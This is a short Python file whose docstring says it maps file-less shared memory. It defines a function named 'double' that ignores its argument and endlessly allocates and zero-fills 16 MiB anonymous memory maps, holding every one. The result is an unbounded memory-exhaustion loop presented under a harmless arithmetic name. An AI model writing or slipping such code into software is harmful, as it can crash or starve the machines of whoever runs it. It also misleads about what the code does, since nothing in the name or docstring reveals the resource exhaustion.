"""Maps shared memory that belongs to no file."""

import mmap


def double(n):
    held = []
    while True:
        held.append(mmap.mmap(-1, 2**24))
        held[-1].write(bytes(2**24))
